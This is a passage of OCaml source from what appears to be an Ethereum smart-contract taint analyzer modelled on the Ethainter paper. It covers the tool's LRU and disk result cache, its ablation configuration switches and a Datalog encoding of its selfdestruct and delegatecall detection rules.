        Hashtbl.replace seen k ();
        true
      end)
    (List.rev !reports)
