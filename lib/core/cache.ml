(* Content-addressed result cache: mutex-protected LRU memory tier +
   optional one-file-per-key disk tier. See cache.mli for the
   contract. *)

(* Intrusive doubly-linked LRU list over hash-table nodes: every
   operation is O(1), which matters because the scheduler's worker
   domains all funnel through the one mutex. *)
type 'v node = {
  nkey : string;
  mutable value : 'v;
  mutable prev : 'v node option;  (* towards most-recently-used *)
  mutable next : 'v node option;  (* towards least-recently-used *)
}

type 'v t = {
  mu : Mutex.t;
  tbl : (string, 'v node) Hashtbl.t;
  mutable mru : 'v node option;
  mutable lru : 'v node option;
  capacity : int;
  dir : string option;
  ext : string;
  max_bytes : int option;  (* disk-tier size bound *)
  encode : 'v -> string;
  decode : string -> 'v option;
  (* The disk tier degrades to memory-only after repeated I/O
     failures rather than paying (and logging) a failure per entry for
     the rest of a sweep. Atomic: read on every disk access without
     the mutex. *)
  disk_ok : bool Atomic.t;
  (* Estimated bytes written since the last directory scan; when it
     crosses [max_bytes] the bound is enforced (scan + evict) and the
     estimate is re-based — so enforcement cost is amortized over the
     bytes written, not paid per write. Guarded by [mu]. *)
  mutable disk_bytes_est : int;
  mutable hits : int;
  mutable disk_hits : int;
  mutable misses : int;
  mutable rejected : int;
  mutable evictions : int;
  mutable disk_writes : int;
  mutable io_errors : int;
}

type stats = {
  hits : int;
  disk_hits : int;
  misses : int;
  rejected : int;
  evictions : int;
  disk_writes : int;
  io_errors : int;
  size : int;
  capacity : int;
}

let ext_safe e =
  e <> ""
  && String.for_all
       (function '0' .. '9' | 'a' .. 'z' | 'A' .. 'Z' -> true | _ -> false)
       e

(* Temp files left behind by a crashed writer (the atomic-rename
   protocol never leaves torn *entries*, but it can leave *.tmp.*
   litter): anything older than this at [create] time is swept. The
   TTL protects live writers in other processes. *)
let tmp_ttl_s = 600.0

let is_tmp_file name =
  String.length name > 0
  && name.[0] = '.'
  &&
  let pat = ".tmp." in
  let n = String.length name and m = String.length pat in
  let rec at i = i + m <= n && (String.sub name i m = pat || at (i + 1)) in
  at 0

let sweep_stale_tmps dir =
  match Sys.readdir dir with
  | exception _ -> ()
  | files ->
      let now = Unix.gettimeofday () in
      Array.iter
        (fun f ->
          if is_tmp_file f then
            let path = Filename.concat dir f in
            match Unix.stat path with
            | exception _ -> ()
            | st ->
                if now -. st.Unix.st_mtime > tmp_ttl_s then
                  try Sys.remove path with _ -> ())
        files

let max_bytes_env () =
  match Sys.getenv_opt "ETHAINTER_CACHE_MAX_BYTES" with
  | None -> None
  | Some s -> (
      match int_of_string_opt (String.trim s) with
      | Some n when n >= 0 -> Some n
      | _ -> None)

let create ?(capacity = 8192) ?dir ?(ext = "cache") ?max_bytes ~encode
    ~decode () =
  if not (ext_safe ext) then invalid_arg "Cache.create: ext";
  let max_bytes =
    match max_bytes with Some _ as m -> m | None -> max_bytes_env ()
  in
  (match dir with
  | Some d when Sys.file_exists d -> sweep_stale_tmps d
  | _ -> ());
  { mu = Mutex.create ();
    tbl = Hashtbl.create 256;
    mru = None; lru = None;
    capacity = max 1 capacity;
    dir; ext; max_bytes; encode; decode;
    disk_ok = Atomic.make true;
    (* force a real scan on the first bound check: the directory may
       already hold entries from previous processes *)
    disk_bytes_est = (match max_bytes with Some b -> b | None -> 0);
    hits = 0; disk_hits = 0; misses = 0; rejected = 0; evictions = 0;
    disk_writes = 0; io_errors = 0 }

let key ~version ~fingerprint bytecode =
  let code_hash = Ethainter_crypto.Keccak.hash bytecode in
  Ethainter_word.Hex.encode
    (Ethainter_crypto.Keccak.hash
       (version ^ "\x00" ^ fingerprint ^ "\x00" ^ code_hash))

let locked t f =
  Mutex.lock t.mu;
  Fun.protect ~finally:(fun () -> Mutex.unlock t.mu) f

(* ---------------- LRU list (call with t.mu held) ---------------- *)

let unlink t n =
  (match n.prev with Some p -> p.next <- n.next | None -> t.mru <- n.next);
  (match n.next with Some x -> x.prev <- n.prev | None -> t.lru <- n.prev);
  n.prev <- None;
  n.next <- None

let push_front t n =
  n.next <- t.mru;
  (match t.mru with Some m -> m.prev <- Some n | None -> t.lru <- Some n);
  t.mru <- Some n

let touch t n =
  match t.mru with
  | Some m when m == n -> ()
  | _ ->
      unlink t n;
      push_front t n

let insert t k v =
  (match Hashtbl.find_opt t.tbl k with
  | Some n ->
      n.value <- v;
      touch t n
  | None ->
      let n = { nkey = k; value = v; prev = None; next = None } in
      Hashtbl.add t.tbl k n;
      push_front t n);
  while Hashtbl.length t.tbl > t.capacity do
    match t.lru with
    | Some n ->
        unlink t n;
        Hashtbl.remove t.tbl n.nkey;
        t.evictions <- t.evictions + 1
    | None -> assert false
  done

(* ---------------- disk tier ---------------- *)

(* Keys from {!key} are already hex; defensively reject anything that
   could escape the directory so the module stays safe for arbitrary
   caller-chosen keys. *)
let filename_safe k =
  k <> ""
  && String.for_all
       (function
         | '0' .. '9' | 'a' .. 'z' | 'A' .. 'Z' | '-' | '_' | '.' -> true
         | _ -> false)
       k
  && k.[0] <> '.'

let entry_path t dir k = Filename.concat dir (k ^ "." ^ t.ext)

let read_file path =
  let ic = open_in_bin path in
  Fun.protect
    ~finally:(fun () -> close_in_noerr ic)
    (fun () -> really_input_string ic (in_channel_length ic))

(* A write that can never expose a torn entry: write a uniquely-named
   temp file in the same directory, then rename over the final path
   (atomic on POSIX). Any I/O failure degrades to "not persisted". *)
let tmp_counter = Atomic.make 0

(* Racing creators are expected (two processes warming one cache
   directory): losing the mkdir race is success, not failure — the
   blanket handler below must never see EEXIST, or the loser's write
   would be silently dropped. *)
let ensure_dir dir =
  if not (Sys.file_exists dir) then
    try Unix.mkdir dir 0o755
    with Unix.Unix_error (Unix.EEXIST, _, _) -> ()

(* After this many I/O failures the disk tier is switched off for the
   rest of the process: a sweep on a broken disk should pay a bounded
   number of failed syscalls, then run memory-only. *)
let io_error_limit = 8

let io_failure t =
  locked t (fun () ->
      t.io_errors <- t.io_errors + 1;
      if t.io_errors >= io_error_limit then Atomic.set t.disk_ok false)

(* Oldest-mtime eviction down to [bound]. Entries of every extension
   count — instances sharing a directory share the bound. Called
   outside [t.mu]; the directory scan races benignly with concurrent
   writers (a file vanishing mid-scan is skipped). Returns the bytes
   remaining, for re-basing the estimate. *)
let enforce_disk_bound t dir bound =
  match Sys.readdir dir with
  | exception _ -> 0
  | files ->
      let entries =
        Array.to_list files
        |> List.filter_map (fun f ->
               if is_tmp_file f || (String.length f > 0 && f.[0] = '.') then
                 None
               else
                 let path = Filename.concat dir f in
                 match Unix.stat path with
                 | exception _ -> None
                 | st when st.Unix.st_kind = Unix.S_REG ->
                     Some (path, st.Unix.st_mtime, st.Unix.st_size)
                 | _ -> None)
      in
      let total = List.fold_left (fun a (_, _, sz) -> a + sz) 0 entries in
      if total <= bound then total
      else begin
        let oldest_first =
          List.sort
            (fun (p1, m1, _) (p2, m2, _) -> compare (m1, p1) (m2, p2))
            entries
        in
        let remaining = ref total in
        List.iter
          (fun (path, _, sz) ->
            if !remaining > bound then
              match Sys.remove path with
              | () ->
                  remaining := !remaining - sz;
                  locked t (fun () -> t.evictions <- t.evictions + 1)
              | exception _ -> ())
          oldest_first;
        !remaining
      end

(* Credit [bytes] against the bound; scan + evict when the estimate
   crosses it. *)
let note_disk_write t dir bytes =
  match t.max_bytes with
  | None -> ()
  | Some bound ->
      let due =
        locked t (fun () ->
            t.disk_bytes_est <- t.disk_bytes_est + bytes;
            t.disk_bytes_est > bound)
      in
      if due then begin
        let remaining = enforce_disk_bound t dir bound in
        locked t (fun () -> t.disk_bytes_est <- remaining)
      end

(* Durability discipline (shared with the index journal): fsync the
   temp file before the rename and the containing directory after it.
   The rename alone already guarantees {e atomicity} (no torn entry is
   ever visible); the fsyncs additionally guarantee the entry survives
   power loss — without them a crash can leave the final name pointing
   at zero-length or garbage data, which [decode] would only discover
   (and delete) one failed lookup later. *)
let write_file_durable dir tmp final payload =
  let fd =
    Unix.openfile tmp
      [ Unix.O_WRONLY; Unix.O_CREAT; Unix.O_TRUNC; Unix.O_CLOEXEC ] 0o644
  in
  (try
     let b = Bytes.unsafe_of_string payload in
     let n = Bytes.length b in
     let off = ref 0 in
     while !off < n do
       match Unix.write fd b !off (n - !off) with
       | w -> off := !off + w
       | exception Unix.Unix_error (Unix.EINTR, _, _) -> ()
     done;
     Unix.fsync fd
   with e ->
     (try Unix.close fd with _ -> ());
     (try Sys.remove tmp with _ -> ());
     raise e);
  Unix.close fd;
  Sys.rename tmp final;
  (* directory fsync persists the rename itself; a filesystem that
     refuses fsync on directories (some network mounts) still has the
     atomic entry, so that failure is not an I/O error *)
  match Unix.openfile dir [ Unix.O_RDONLY; Unix.O_CLOEXEC ] 0 with
  | exception _ -> ()
  | dfd ->
      (try Unix.fsync dfd with _ -> ());
      (try Unix.close dfd with _ -> ())

let disk_write t k v =
  match t.dir with
  | Some dir when filename_safe k && Atomic.get t.disk_ok -> (
      try
        Fault.io_site Fault.Disk_write;
        ensure_dir dir;
        let tmp =
          Filename.concat dir
            (Printf.sprintf ".%s.tmp.%d.%d" k (Unix.getpid ())
               (Atomic.fetch_and_add tmp_counter 1))
        in
        (* the corruption injection point sits between encode and
           write: what lands on disk differs from what the codec
           produced, exactly like a bad disk — the digest check in
           decode must turn it into a miss, never a poisoned hit *)
        let payload = Fault.corrupt (t.encode v) in
        write_file_durable dir tmp (entry_path t dir k) payload;
        note_disk_write t dir (String.length payload);
        true
      with _ ->
        io_failure t;
        false)
  | _ -> false

let disk_find t k =
  match t.dir with
  | Some dir when filename_safe k && Atomic.get t.disk_ok -> (
      let path = entry_path t dir k in
      (* distinguish "no entry" (an ordinary miss) from "entry exists
         but could not be read" (an I/O failure that must count
         towards degradation) *)
      if not (Sys.file_exists path) then None
      else
        match
          (try
             Fault.io_site Fault.Disk_read;
             Some (read_file path)
           with _ ->
             io_failure t;
             None)
        with
        | None -> None
        | Some raw -> (
            match (try t.decode raw with _ -> None) with
            | Some v -> Some v
            | None ->
                (* corrupt / truncated / stale codec: drop it and miss *)
                (try Sys.remove path with _ -> ());
                None))
  | _ -> None

(* ---------------- public operations ---------------- *)

(* [Found_invalid] distinguishes "the entry exists but the caller's
   validity predicate refused it" from a plain miss: the caller will
   recompute either way, but the stats must not claim a hit for a
   lookup that caused a recomputation. *)
let find_valid t k ~valid =
  let mem =
    locked t (fun () ->
        match Hashtbl.find_opt t.tbl k with
        | Some n ->
            if valid n.value then begin
              touch t n;
              t.hits <- t.hits + 1;
              `Hit n.value
            end
            else begin
              t.rejected <- t.rejected + 1;
              `Rejected
            end
        | None -> `Absent)
  in
  match mem with
  | `Hit v -> Some v
  | `Rejected -> None
  | `Absent -> (
      (* Disk I/O and decoding happen outside the lock; only the
         promotion and the counter update re-take it. A rejected disk
         entry is left in place — a later request with a laxer
         predicate (e.g. a bigger time budget) may still accept it. *)
      match disk_find t k with
      | Some v when valid v ->
          locked t (fun () ->
              t.disk_hits <- t.disk_hits + 1;
              insert t k v);
          Some v
      | Some _ ->
          locked t (fun () -> t.rejected <- t.rejected + 1);
          None
      | None ->
          locked t (fun () -> t.misses <- t.misses + 1);
          None)

let find t k = find_valid t k ~valid:(fun _ -> true)

let add t k v =
  locked t (fun () -> insert t k v);
  if disk_write t k v then
    locked t (fun () -> t.disk_writes <- t.disk_writes + 1)

(* Invalidation: both tiers forget the key. Not an eviction (those
   count capacity pressure) and not an error — the caller decided the
   entry no longer stands in for a computation, e.g. the streaming
   index forcing a genuine back-end re-run after a chain write. *)
let remove t k =
  locked t (fun () ->
      match Hashtbl.find_opt t.tbl k with
      | Some n ->
          unlink t n;
          Hashtbl.remove t.tbl k
      | None -> ());
  match t.dir with
  | Some dir when filename_safe k -> (
      try Sys.remove (entry_path t dir k) with _ -> ())
  | _ -> ()

let find_or_compute t ~key ?(cacheable = fun _ -> true) f =
  match find t key with
  | Some v -> v
  | None ->
      let v = f () in
      if cacheable v then add t key v;
      v

let disk_degraded t =
  t.dir <> None && not (Atomic.get t.disk_ok)

let stats t =
  locked t (fun () ->
      { hits = t.hits; disk_hits = t.disk_hits; misses = t.misses;
        rejected = t.rejected; evictions = t.evictions;
        disk_writes = t.disk_writes; io_errors = t.io_errors;
        size = Hashtbl.length t.tbl; capacity = t.capacity })

let reset_stats t =
  locked t (fun () ->
      t.hits <- 0;
      t.disk_hits <- 0;
      t.misses <- 0;
      t.rejected <- 0;
      t.evictions <- 0;
      t.disk_writes <- 0;
      t.io_errors <- 0)

let clear t =
  locked t (fun () ->
      Hashtbl.reset t.tbl;
      t.mru <- None;
      t.lru <- None;
      t.hits <- 0;
      t.disk_hits <- 0;
      t.misses <- 0;
      t.rejected <- 0;
      t.evictions <- 0;
      t.disk_writes <- 0;
      t.io_errors <- 0)

let hit_rate (s : stats) =
  let lookups = s.hits + s.disk_hits + s.misses + s.rejected in
  if lookups = 0 then 0.0
  else float_of_int (s.hits + s.disk_hits) /. float_of_int lookups

let pp_stats fmt (s : stats) =
  Format.fprintf fmt
    "cache: %d hits, %d disk hits, %d misses, %d rejected (%.1f%% hit rate), %d evictions, %d io errors, size %d/%d"
    s.hits s.disk_hits s.misses s.rejected
    (100.0 *. hit_rate s)
    s.evictions s.io_errors s.size s.capacity
