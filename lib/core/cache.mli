(** Content-addressed analysis-result cache.

    The paper runs Ethainter over the whole blockchain (§6), where the
    same runtime bytecode recurs constantly — deployed duplicates on
    mainnet, and the t1/f6/f8 experiment sweeps analyzing overlapping
    corpora. The per-contract analysis is pure given the bytecode and
    the {!Config}, so its result can be memoized under a
    content-derived key (see {!key}).

    Two tiers:
    - an {b in-memory tier}: LRU-bounded hash map, safe for concurrent
      use from {!Scheduler} worker domains (one mutex; lookups and
      insertions are O(1) and never held across a computation);
    - an optional {b on-disk tier}: one file per key under a directory
      ([ETHAINTER_CACHE_DIR] by convention), written with an
      atomic-rename protocol so concurrent writers and crashes never
      leave a torn entry visible. Corrupt, truncated or stale entries
      (the caller's [decode] returns [None] or raises) are deleted and
      treated as misses. Disk hits are promoted into the memory tier.

    The cache is generic in the value type; the caller supplies the
    codec, which must be self-validating (a version header, checked in
    [decode]) since disk entries outlive processes.

    Several cache instances with {e heterogeneous} value types may
    share one directory: each instance names its disk entries
    [<key>.<ext>] with a per-instance [ext] (default ["cache"]), so
    e.g. {!Pipeline}'s front-end artifacts ([*.fe]) and back-end
    results ([*.cache]) coexist under one [ETHAINTER_CACHE_DIR]. *)

type 'v t

type stats = {
  hits : int;        (** memory-tier hits *)
  disk_hits : int;   (** memory misses answered by the disk tier *)
  misses : int;      (** full misses (no entry; value had to be computed) *)
  rejected : int;    (** entries found but refused by the caller's
                         {!find_valid} predicate — the value was
                         recomputed, so these are {e not} hits *)
  evictions : int;   (** LRU evictions from the memory tier, plus
                         disk-tier entries evicted by the size bound *)
  disk_writes : int; (** entries persisted to the disk tier *)
  io_errors : int;   (** disk-tier read/write failures (the entry was
                         skipped, never the request); past a small
                         bound the tier degrades to memory-only for
                         the rest of the process *)
  size : int;        (** current memory-tier entry count *)
  capacity : int;    (** memory-tier LRU bound *)
}

val create :
  ?capacity:int ->
  ?dir:string ->
  ?ext:string ->
  ?max_bytes:int ->
  encode:('v -> string) ->
  decode:(string -> 'v option) ->
  unit -> 'v t
(** [capacity] bounds the memory tier (default 8192 entries; at least
    1). [dir] enables the disk tier; it is created on first write if
    missing (concurrent creators may race — both win), and a directory
    that cannot be created or read simply degrades to memory-only.
    [ext] is the disk-entry filename extension (default ["cache"];
    alphanumeric) — give distinct extensions to instances sharing a
    directory. [max_bytes] bounds the disk tier (default: the
    [ETHAINTER_CACHE_MAX_BYTES] environment variable, else unbounded):
    when the bytes written cross the bound, oldest-mtime entries are
    evicted down to it (entries of {e every} extension — instances
    sharing a directory share the bound); enforcement is amortized
    over bytes written, not paid per write. Stale [*.tmp] files left
    by crashed writers (older than ~10 minutes) are swept from [dir]
    at creation. [decode] may raise — any exception is a miss.
    @raise Invalid_argument if [ext] is empty or not alphanumeric. *)

val key : version:string -> fingerprint:string -> string -> string
(** [key ~version ~fingerprint bytecode] is the content address
    [hex (keccak (version ‖ fingerprint ‖ keccak bytecode))]: 64 hex
    characters, filename-safe, stable across runs and processes.
    [version] is the analysis version (bump to invalidate every prior
    entry); [fingerprint] is {!Config.fingerprint}, so ablation
    configs never share entries. *)

val find : 'v t -> string -> 'v option
(** Memory tier first, then disk. A disk hit is promoted to memory. *)

val find_valid : 'v t -> string -> valid:('v -> bool) -> 'v option
(** {!find} gated by a validity predicate: an entry for which [valid]
    is false is {e not} returned and is counted under
    [stats.rejected] rather than as a hit — the caller is about to
    recompute, and the stats line must say so. A rejected disk entry
    is left on disk (a later, laxer predicate may accept it); a
    rejected memory entry likewise stays resident. {!Pipeline} uses
    this to refuse results whose recorded cost exceeds the request's
    time budget. *)

val add : 'v t -> string -> 'v -> unit
(** Insert into the memory tier (evicting the least-recently-used
    entry beyond capacity) and persist to the disk tier if one is
    configured. Re-adding an existing key refreshes its recency. *)

val remove : 'v t -> string -> unit
(** Forget the entry for this key in {e both} tiers (memory and disk).
    Counted neither as an eviction nor as an error: the caller is
    deliberately invalidating — the streaming index uses this to force
    a genuine recomputation after on-chain facts a cached result
    consumed have changed. Removing an absent key is a no-op. *)

val find_or_compute :
  'v t -> key:string -> ?cacheable:('v -> bool) -> (unit -> 'v) -> 'v
(** [find_or_compute t ~key f] returns the cached value or computes,
    stores and returns it. The lock is {e not} held during [f] — two
    domains may race to compute the same key (both compute, last
    insert wins; the analysis is deterministic so the values agree).
    An exception in [f] propagates and caches nothing. [cacheable]
    (default: always) gates storing — e.g. timed-out results, which
    depend on wall-clock, are recomputed rather than cached. *)

val disk_degraded : 'v t -> bool
(** True iff a disk tier was configured but has been switched off for
    the rest of the process after repeated I/O failures (see
    [stats.io_errors]). Always false for a memory-only cache. Feeds
    the daemon's health endpoint: a degraded tier means results are
    still served, but nothing new persists. *)

val stats : 'v t -> stats
val reset_stats : 'v t -> unit
val clear : 'v t -> unit
(** Drop every memory-tier entry (disk entries are kept) and reset the
    counters. *)

val hit_rate : stats -> float
(** [(hits + disk_hits) / lookups] where lookups include rejected
    entries, or [0.] before any lookup. *)

val pp_stats : Format.formatter -> stats -> unit
(** One line, e.g.
    ["cache: 120 hits, 3 disk hits, 30 misses, 1 rejected (79.9% hit rate), 0 evictions, size 153/8192"]. *)
