(** Analysis configuration: the design decisions of §4.4/§6.4, exposed
    as switches so the Fig. 8 ablation experiments can turn each off.

    The default configuration is the paper's tuned analysis. *)

type t = {
  model_guards : bool;
      (** Model sanitization by sender guards (§4, GUARD rules). When
          off, every statement is considered attacker-reachable —
          Fig. 8b's "No Guard Modeling" ablation (precision drops). *)
  storage_taint : bool;
      (** Let taint propagate through persistent storage, across
          transactions (rules StorageWrite/StorageLoad). When off,
          composite multi-transaction escalations are invisible —
          Fig. 8a's "No Storage Modeling" ablation (completeness
          drops). *)
  conservative_storage : bool;
      (** Securify-style conservative storage: a store to a statically
          unknown location may reach *any* storage location, and a load
          from an unknown location may read any tainted slot — Fig. 8c's
          "Conservative Storage Modeling" ablation (precision drops).
          The default instead models unknown locations precisely-but-
          incompletely (only data-structure accesses with a known base
          slot alias each other). *)
  max_fixpoint_rounds : int;
      (** Safety bound on the mutual-recursion fixpoint. *)
}

let default =
  { model_guards = true; storage_taint = true; conservative_storage = false;
    max_fixpoint_rounds = 100 }

let with_model_guards v t = { t with model_guards = v }
let with_storage_taint v t = { t with storage_taint = v }
let with_conservative_storage v t = { t with conservative_storage = v }
let with_max_fixpoint_rounds v t = { t with max_fixpoint_rounds = v }

(** Fig. 8a: "No Storage Modeling" — reduced completeness. *)
let no_storage_model = with_storage_taint false default

(** Fig. 8b: "No Guard Modeling" — reduced precision. *)
let no_guard_model = with_model_guards false default

(** Fig. 8c: "Conservative Storage Modeling" — reduced precision. *)
let conservative = with_conservative_storage true default

(* The fingerprint spells every switch out by name, so adding a field
   without extending it is a compile error only if you keep the record
   pattern below exhaustive — hence no `_` wildcard. *)
let fingerprint
    { model_guards; storage_taint; conservative_storage;
      max_fixpoint_rounds } =
  Printf.sprintf "cfg:g%d.s%d.c%d.r%d"
    (Bool.to_int model_guards)
    (Bool.to_int storage_taint)
    (Bool.to_int conservative_storage)
    max_fixpoint_rounds

(* The exact inverse of [fingerprint], so a config can travel over the
   serving protocol as its fingerprint string. Strict: only the
   canonical form parses ("g2", a sign, or trailing junk is [None]),
   which keeps [of_fingerprint (fingerprint t) = Some t] the *only*
   strings accepted. *)
let of_fingerprint (s : string) : t option =
  let bool_of = function "0" -> Some false | "1" -> Some true | _ -> None in
  let strip_tag tag w =
    let n = String.length tag in
    if String.length w > n && String.sub w 0 n = tag then
      Some (String.sub w n (String.length w - n))
    else None
  in
  match strip_tag "cfg:" s with
  | None -> None
  | Some rest -> (
      match String.split_on_char '.' rest with
      | [ g; st; c; r ] -> (
          match
            ( Option.bind (strip_tag "g" g) bool_of,
              Option.bind (strip_tag "s" st) bool_of,
              Option.bind (strip_tag "c" c) bool_of,
              Option.bind (strip_tag "r" r) int_of_string_opt )
          with
          | Some model_guards, Some storage_taint, Some conservative_storage,
            Some max_fixpoint_rounds
            when max_fixpoint_rounds >= 0
                 && string_of_int max_fixpoint_rounds
                    = Option.get (strip_tag "r" r) ->
              Some
                { model_guards; storage_taint; conservative_storage;
                  max_fixpoint_rounds }
          | _ -> None)
      | _ -> None)
