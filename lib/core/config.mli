(** Analysis configuration: the design decisions of §4.4, exposed as
    switches so the Fig. 8 ablation experiments can turn each off. *)

type t = {
  model_guards : bool;
      (** Model sanitization by sender guards. Off = Fig. 8b's "No
          Guard Modeling" (every statement attacker-reachable;
          precision drops). *)
  storage_taint : bool;
      (** Let taint propagate through persistent storage across
          transactions — including guard defeat via attacker-writable
          slots. Off = Fig. 8a's "No Storage Modeling" (composite
          escalations invisible; completeness drops). *)
  conservative_storage : bool;
      (** Securify-style conservative treatment of statically unknown
          storage locations (may alias anything). On = Fig. 8c's
          "Conservative Storage Modeling" (precision drops). *)
  max_fixpoint_rounds : int;
      (** Defensive bound on the mutual-recursion fixpoint. *)
}

val default : t
(** The paper's tuned analysis. *)

val with_model_guards : bool -> t -> t
val with_storage_taint : bool -> t -> t
val with_conservative_storage : bool -> t -> t
val with_max_fixpoint_rounds : int -> t -> t
(** Builder setters, e.g.
    [Config.(default |> with_storage_taint false)] — ablation sweeps
    and CLIs compose these instead of constructing records
    positionally. *)

val fingerprint : t -> string
(** Deterministic encoding of every switch, stable across runs and
    processes (e.g. ["cfg:g1.s1.c0.r100"]). Two configs have equal
    fingerprints iff they are equal; the {!Cache} key includes it so a
    result computed under one ablation is never served under
    another. *)

val of_fingerprint : string -> t option
(** Exact inverse of {!fingerprint} — [of_fingerprint (fingerprint t) =
    Some t], and only canonical fingerprint strings are accepted. The
    serving protocol uses it to carry a config over the wire without a
    second encoding. *)

val no_storage_model : t
(** Fig. 8a ablation. *)

val no_guard_model : t
(** Fig. 8b ablation. *)

val conservative : t
(** Fig. 8c ablation. *)
