(** The Fig. 5 implementation skeleton as an actual Datalog program.

    The paper's implementation is "several hundred declarative rules"
    compiled by Soufflé (§5). Our scaled analysis ({!Analysis}) is a
    native fixpoint for speed, but this module demonstrates — and the
    test suite validates — that the same verdicts fall out of the
    declarative formulation executed on {!Ethainter_datalog}: TAC
    statements are exported as EDB facts and the mutually recursive
    TaintedFlow / AttackerModelInfoflow / ReachableByAttacker rules of
    Fig. 5 are run literally.

    Simplifications versus the native analysis (kept deliberately close
    to the figure): single taint kind with guard semantics folded into
    reachability, storage flow at the slot-class granularity, sinks
    limited to the selfdestruct/delegatecall detectors. Agreement on
    these detectors is asserted by [test_analysis.ml] over the whole
    corpus. *)

module D = Ethainter_datalog.Datalog
module U = Ethainter_word.Uint256
module Op = Ethainter_evm.Opcode
open Ethainter_tac
open Tac

type verdicts = {
  d_reachable_selfdestruct : int list; (** pcs *)
  d_tainted_selfdestruct : int list;
  d_tainted_delegatecall : int list;
}

let var_const (v : var) : D.const = D.Sym (var_to_string v)
let stmt_const (s : stmt) : D.const = D.Int s.s_pc

(* slot classes as interned symbols *)
let slot_const (facts : Facts.t) (addr : var) : D.const =
  match Facts.classify_slot facts addr with
  | Facts.SConst c -> D.Sym ("slot:" ^ U.to_hex c)
  | Facts.SData b -> D.Sym ("data:" ^ U.to_hex b)
  | Facts.SUnknown -> D.Sym "slot:?"

(* A naive single-program encoding would negate 'blocked' while
   'blocked' depends on 'nonsan', which depends on 'tainted', which
   depends on 'reachable', which negates 'blocked' again: negation in a
   cycle, rejected by stratification. We break the cycle the way the
   paper's implementation effectively evaluates its recursion: iterate
   a stratified program to an OUTER fixpoint, feeding the previous
   round's non-sanitizing guards back in as EDB facts ('nonsan_in').
   Each round is stratified; the outer iteration is monotone (nonsan
   only grows), so it converges. *)

let build_round () : D.program =
  let p = D.create () in
  D.declare p "calldataload" 2;
  D.declare p "defines" 2;
  D.declare p "infoflow" 2;
  D.declare p "guarded" 2;
  D.declare p "any_guard" 1;
  D.declare p "guard_reads" 2;
  D.declare p "sstore" 3;
  D.declare p "sstore_key_attacker" 2;
  D.declare p "sstore_keyvar" 3;
  D.declare p "sload" 3;
  D.declare p "selfdestruct" 2;
  D.declare p "delegatecall" 2;
  D.declare p "stmt" 1;
  D.declare p "nonsan_in" 1; (* previous round's non-sanitizing guards *)
  D.declare p "blocked" 1;
  D.declare p "reachable" 1;
  D.declare p "tainted" 1;
  D.declare p "tainted_slot" 1;
  D.declare p "writable" 1;
  D.declare p "nonsan_out" 1;
  D.declare p "violation_sd_reach" 1;
  D.declare p "violation_sd_taint" 1;
  D.declare p "violation_dc" 1;
  let v = D.v in
  D.add_rule p ("blocked", [ v "s" ])
    [ D.Pos ("guarded", [ v "s"; v "g" ]); D.Neg ("nonsan_in", [ v "g" ]) ];
  D.add_rule p ("reachable", [ v "s" ])
    [ D.Pos ("stmt", [ v "s" ]); D.Neg ("any_guard", [ v "s" ]) ];
  D.add_rule p ("reachable", [ v "s" ])
    [ D.Pos ("any_guard", [ v "s" ]); D.Neg ("blocked", [ v "s" ]) ];
  D.add_rule p ("tainted", [ v "x" ])
    [ D.Pos ("calldataload", [ v "s"; v "x" ]);
      D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("tainted", [ v "y" ])
    [ D.Pos ("tainted", [ v "x" ]); D.Pos ("infoflow", [ v "x"; v "y" ]);
      D.Pos ("defines", [ v "s"; v "y" ]); D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("tainted_slot", [ v "c" ])
    [ D.Pos ("sstore", [ v "s"; v "c"; v "x" ]);
      D.Pos ("tainted", [ v "x" ]); D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("tainted", [ v "y" ])
    [ D.Pos ("sload", [ v "s"; v "c"; v "y" ]);
      D.Pos ("tainted_slot", [ v "c" ]) ];
  D.add_rule p ("writable", [ v "c" ])
    [ D.Pos ("sstore_key_attacker", [ v "s"; v "c" ]);
      D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("writable", [ v "c" ])
    [ D.Pos ("sstore_keyvar", [ v "s"; v "c"; v "k" ]);
      D.Pos ("tainted", [ v "k" ]); D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("nonsan_out", [ v "g" ])
    [ D.Pos ("guard_reads", [ v "g"; v "c" ]); D.Pos ("writable", [ v "c" ]) ];
  D.add_rule p ("nonsan_out", [ v "g" ])
    [ D.Pos ("guard_reads", [ v "g"; v "c" ]);
      D.Pos ("tainted_slot", [ v "c" ]) ];
  D.add_rule p ("nonsan_out", [ v "g" ])
    [ D.Pos ("guarded", [ v "s"; v "g" ]); D.Pos ("tainted", [ v "g" ]) ];
  D.add_rule p ("nonsan_out", [ v "g" ])
    [ D.Pos ("nonsan_in", [ v "g" ]) ];
  D.add_rule p ("violation_sd_reach", [ v "s" ])
    [ D.Pos ("selfdestruct", [ v "s"; v "b" ]);
      D.Pos ("reachable", [ v "s" ]) ];
  D.add_rule p ("violation_sd_taint", [ v "s" ])
    [ D.Pos ("selfdestruct", [ v "s"; v "b" ]); D.Pos ("tainted", [ v "b" ]) ];
  D.add_rule p ("violation_dc", [ v "s" ])
    [ D.Pos ("delegatecall", [ v "s"; v "t" ]);
      D.Pos ("tainted", [ v "t" ]) ];
  p

(* One-step Infoflow facts from TAC: op/phi argument-to-result edges,
   sha3 hashed-args edges, and constant-offset memory flows. *)
let export_facts (facts : Facts.t) : (string * D.tuple list) list =
  let p = facts.Facts.program in
  let calldataload = ref [] and defines = ref [] and infoflow = ref [] in
  let guarded = ref [] and any_guard = ref [] and guard_reads = ref [] in
  let sstore = ref [] and sstore_ka = ref [] and sstore_kv = ref [] in
  let sload = ref [] and selfd = ref [] and dcall = ref [] in
  let stmts_rel = ref [] in
  (* memory cells for constant-offset MSTORE/MLOAD flow *)
  let mem_writes : (U.t, var list) Hashtbl.t = Hashtbl.create 32 in
  List.iter
    (fun s ->
      match (s.s_op, s.s_args) with
      | TOp Op.MSTORE, [ off; value ] -> (
          match const_of p off with
          | Some o ->
              let cur =
                match Hashtbl.find_opt mem_writes o with
                | Some l -> l
                | None -> []
              in
              Hashtbl.replace mem_writes o (value :: cur)
          | None -> ())
      | _ -> ())
    (stmts p);
  List.iter
    (fun s ->
      stmts_rel := [| stmt_const s |] :: !stmts_rel;
      (match s.s_res with
      | Some r -> defines := [| stmt_const s; var_const r |] :: !defines
      | None -> ());
      (* guards *)
      let gs =
        List.filter
          (fun (g : Facts.guard) ->
            Facts.scrutinizes_sender facts g.Facts.g_cond)
          (Facts.guards_of_stmt facts s)
      in
      if gs <> [] then begin
        any_guard := [| stmt_const s |] :: !any_guard;
        List.iter
